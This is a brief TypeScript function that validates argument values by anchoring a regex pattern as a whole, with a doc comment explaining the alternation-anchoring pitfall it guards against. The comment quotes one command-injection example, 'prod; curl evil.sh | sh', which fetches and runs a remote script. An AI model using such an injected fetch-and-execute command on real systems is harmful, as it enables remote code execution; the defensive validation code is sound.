/**
 * Whether `value` as a whole matches an argument's pattern. The pattern is wrapped rather than run as written:
 * `^prod|staging$` is anchored at both ends yet, as written, accepts `prod; curl evil.sh | sh`.
 */
export function matchesArgPattern(pattern: string, value: string): boolean {
  return new RegExp(`^(?:${pattern})$`, "u").test(value);
}
